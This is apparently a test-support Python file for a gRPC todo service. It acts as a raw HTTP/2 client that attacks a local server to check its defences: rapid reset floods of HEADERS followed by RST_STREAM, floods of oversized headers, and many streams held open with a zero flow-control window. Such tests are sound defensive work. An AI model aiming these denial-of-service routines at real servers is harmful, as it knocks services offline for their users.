"""A raw HTTP/2 peer (the h2 package) doing what no gRPC library lets a client do, against a
server on this machine, bounded in count and time:

- rapid reset: HEADERS (and the request) then RST_STREAM, in a loop on one connection, reading
  what the server sends (``attack``: PINGs answered) or nothing after the handshake
  (``attack_without_reading``); ``--header-bytes N`` adds a header of N bytes to every HEADERS
  (a flood of big headers). Run as a process of its own (so that it does not share the test's
  interpreter), it prints ``flooding`` once connected, then what it saw as one JSON line:
  ``python tests/support/h2_peer.py PORT SECONDS MAX_RESETS [--without-reading] [--header-bytes N]``;
- never reading: one connection advertising a zero flow-control window opens many WatchTodos
  streams, so whatever the server sends them stays with the server (``never_reading_watches``)."""

from __future__ import annotations

import argparse
import contextlib
import functools
import json
import select
import socket
import time
from collections.abc import Callable

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings

from sessiontodo.v1 import todo_service_pb2 as pb

BATCH = 50

GOAWAY = 0x7  # the frame type (RFC 9113, 6.8)


def _framed(message: bytes) -> bytes:
    """A gRPC message as it travels: uncompressed, its length, itself."""
    return b"\x00" + len(message).to_bytes(4, "big") + message


def _headers(port: int, method: str, header_bytes: int = 0) -> list[tuple[str, str]]:
    """A gRPC call's headers, with one more of ``header_bytes`` bytes when asked (never indexed by
    HPACK's 4 KiB table, so it travels whole in every HEADERS and is decoded whole every time)."""
    padding = [("x-padding", "p" * header_bytes)] if header_bytes else []
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/sessiontodo.v1.TodoService/{method}"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *padding,
    ]


def _new_connection() -> h2.connection.H2Connection:
    return h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))


def never_reading_watches(port: int, session_id: str, streams: int, hold: float) -> dict[str, int]:
    """Open ``streams`` WatchTodos on one connection whose streams' windows are zero, keep it open
    for ``hold`` seconds without granting any window, then close it. The streams' statuses by
    grpc-status ("open": none yet, the server holding their messages)."""
    settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
    connection = _new_connection()
    connection.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    request = _framed(pb.WatchTodosRequest(session_id=session_id).SerializeToString())
    statuses: dict[int, str] = {}
    with socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
        connection.initiate_connection()
        for _ in range(streams):
            stream_id = connection.get_next_available_stream_id()
            connection.send_headers(stream_id, _headers(port, "WatchTodos"))
            connection.send_data(stream_id, request, end_stream=True)
            statuses[stream_id] = "open"
        sock.sendall(connection.data_to_send())
        deadline = time.monotonic() + hold
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(1 << 16)
            except TimeoutError:
                continue
            if not chunk:
                break
            for event in connection.receive_data(chunk):
                if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    headers = {str(name): str(value) for name, value in event.headers or []}  # utf-8: str
                    if "grpc-status" in headers and event.stream_id is not None:
                        statuses[event.stream_id] = headers["grpc-status"]
            sock.sendall(connection.data_to_send())  # settings and ping acknowledgements only
    counts: dict[str, int] = {}
    for status in statuses.values():
        counts[status] = counts.get(status, 0) + 1
    return counts


def _queue_resets(
    connection: h2.connection.H2Connection, headers: list[tuple[str, str]], request: bytes | None
) -> None:
    """Queue ``BATCH`` streams, each opened (HEADERS, then the request if given) and reset."""
    for _ in range(BATCH):
        stream_id = connection.get_next_available_stream_id()
        connection.send_headers(stream_id, headers)
        if request is not None:
            connection.send_data(stream_id, request)
        connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)


def attack(
    port: int,
    seconds: float,
    max_resets: int,
    header_bytes: int = 0,
    connected: Callable[[], object] = lambda: None,
) -> dict[str, object]:
    """Reset streams until the time or the count runs out, or the server closes the connection;
    ``connected`` is called once the connection is open, before the first reset."""
    connection = _new_connection()
    if header_bytes:  # hpack's Huffman coder, in Python, would take seconds for each batch of big headers
        connection.encoder.encode = functools.partial(connection.encoder.encode, huffman=False)  # type: ignore[method-assign]
    headers = _headers(port, "GetTodos", header_bytes)
    request = _framed(pb.GetTodosRequest(session_id="s").SerializeToString())
    resets, pings, goaway, closed, pending = 0, 0, None, False, b""
    deadline = time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        sock.setblocking(False)
        connected()
        while time.monotonic() < deadline and not closed:
            if not pending and resets < max_resets:
                _queue_resets(connection, headers, request)
                resets += BATCH
            pending += connection.data_to_send()  # the resets, and acknowledgements of PINGs and SETTINGS
            readable, writable, _ = select.select([sock], [sock] if pending else [], [], 0.1)
            try:
                if writable:
                    pending = pending[sock.send(pending) :]
                if readable:
                    if not (chunk := sock.recv(1 << 16)):
                        closed = True  # the server closed the connection
                    for event in connection.receive_data(chunk):
                        if isinstance(event, h2.events.PingReceived):
                            pings += 1  # h2 queues its acknowledgement, sent with the next data
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            goaway, closed = str(event.error_code), True
            except BlockingIOError:
                pass
            except OSError:
                closed = True
    return {"resets": resets, "pings": pings, "goaway": goaway, "closed": closed}


def _read_exactly(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def _read_frame(sock: socket.socket) -> tuple[int, bytes]:
    """One whole frame (its type, its bytes), so that reading can stop and resume on a frame boundary."""
    header = _read_exactly(sock, 9)
    return header[3], header + _read_exactly(sock, int.from_bytes(header[:3], "big"))


def attack_without_reading(port: int, seconds: float, max_resets: int) -> dict[str, object]:
    """Take the server's SETTINGS and acknowledge them, then reset streams (HEADERS then RST_STREAM)
    without reading anything more, so never acknowledging a PING, until the server closes the
    connection or the time or the count runs out. Then read what the server sent: the GOAWAY's
    error code and debug data if there is one."""
    connection = _new_connection()
    headers = _headers(port, "GetTodos")
    resets, closed, pending = 0, False, b""
    goaway: str | None = None
    goaway_debug: str | None = None
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        settings_received = False
        while not settings_received:
            events = connection.receive_data(_read_frame(sock)[1])
            settings_received = any(isinstance(event, h2.events.RemoteSettingsChanged) for event in events)
        sock.sendall(connection.data_to_send())  # the SETTINGS acknowledgement
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and (pending or resets < max_resets) and not closed:
            if not pending:
                _queue_resets(connection, headers, None)
                resets += BATCH
                pending = connection.data_to_send()
            try:
                if select.select([], [sock], [], 0.1)[1]:
                    pending = pending[sock.send(pending) :]
            except OSError:
                closed = True  # the server closed the connection
        with contextlib.suppress(OSError):  # read until the GOAWAY, the end, a reset or 2 s of silence
            while goaway is None:
                frame_type, frame = _read_frame(sock)
                if frame_type == GOAWAY:  # last stream id (4 bytes), error code (4), debug data
                    goaway = h2.errors.ErrorCodes(int.from_bytes(frame[13:17], "big")).name
                    goaway_debug = frame[17:].decode(errors="replace")
    return {"resets": resets, "closed": closed, "goaway": goaway, "goaway_debug": goaway_debug}


def _main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("max_resets", type=int)
    parser.add_argument("--without-reading", action="store_true")
    parser.add_argument("--header-bytes", type=int, default=0)
    args = parser.parse_args()

    def announce() -> None:
        print("flooding", flush=True)

    if args.without_reading:
        seen = attack_without_reading(args.port, args.seconds, args.max_resets)
    else:
        seen = attack(args.port, args.seconds, args.max_resets, args.header_bytes, announce)
    print(json.dumps(seen))


if __name__ == "__main__":
    _main()
